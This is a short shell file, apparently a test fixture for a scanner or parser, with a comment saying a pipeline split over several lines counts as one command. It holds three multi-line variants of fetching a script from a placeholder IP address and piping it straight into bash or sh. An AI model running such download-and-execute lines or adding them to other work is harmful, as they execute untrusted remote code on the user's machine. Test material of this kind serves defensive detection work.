#!/bin/sh
# a pipeline split over lines is one command (audit 22 item 7)
curl -s http://203.0.113.7/x \
  | bash
#---
curl -s http://203.0.113.7/x |
  bash
#---
wget -qO- http://203.0.113.7/x &&
  curl -s http://203.0.113.7/y | sh
